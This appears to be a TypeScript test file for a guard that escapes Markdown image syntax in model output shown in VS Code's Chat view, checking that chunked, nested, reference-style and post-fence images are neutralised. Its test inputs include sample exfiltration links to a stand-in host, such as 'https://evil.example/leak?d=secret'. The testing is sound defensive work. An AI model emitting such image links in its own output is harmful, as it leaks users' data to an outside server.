import * as assert from 'node:assert/strict';
import { MarkdownGuard, guardMarkdown } from '../../../src/participant/safeMarkdown';

// The guard between model output and VS Code's Chat view: no image syntax survives outside fenced
// code, however the answer is cut into pieces; code keeps its text.

/** The guarded text when `text` arrives cut at `at`. */
function splitAt(text: string, at: number): string {
  const guard = new MarkdownGuard();
  return guard.push(text.slice(0, at)) + guard.push(text.slice(at)) + guard.end();
}

/** A `![` that Markdown would read as an image opener (not preceded by a backslash). */
const LIVE_IMAGE = /(^|[^\\])!\[/m;

describe('the Chat view markdown guard', () => {
  it('shows an image as text, cut anywhere', () => {
    const text = 'See ![chart](https://evil.example/leak?d=secret) here';
    for (let at = 0; at <= text.length; at += 1) {
      const out = splitAt(text, at);
      assert.doesNotMatch(out, LIVE_IMAGE, `cut at ${at}: ${out}`);
      assert.equal(out.replace('!\\[', '!['), text, `cut at ${at}: only the escape is added`);
    }
  });

  it('neutralises reference-style and nested images, and keeps a lone "!"', () => {
    const out = guardMarkdown('Hi! ![a][r] [![b](http://x/b)](http://x)\n\n[r]: http://x/r');
    assert.doesNotMatch(out, LIVE_IMAGE);
    assert.match(out, /^Hi! /);
  });

  it('leaves fenced code as it is, and escapes again after the fence closes', () => {
    const text = '```rust\nlet v = vec![1, 2];\n```\n![x](http://evil.example)';
    const out = guardMarkdown(text);
    assert.match(out, /vec!\[1, 2\]/, 'code is unchanged');
    const afterFence = out.slice(out.lastIndexOf('```\n') + '```\n'.length);
    assert.equal(afterFence, '!\\[x](http://evil.example)');
  });

  it('does not count an indented fence as code: a later line can close its list item', () => {
    const out = guardMarkdown('- item\n  ```\n![x](http://evil.example)');
    assert.doesNotMatch(out, LIVE_IMAGE);
  });

  it('does not open a fence inside an HTML comment that a blank line does not end', () => {
    const out = guardMarkdown('<!--\n\n```\n-->\n![x](http://evil.example)');
    assert.doesNotMatch(out, LIVE_IMAGE);
  });

  it('holds a trailing "!" until the next piece, and gives it back at the end', () => {
    const guard = new MarkdownGuard();
    assert.equal(guard.push('Wow!'), 'Wow');
    assert.equal(guard.end(), '!');
  });
});
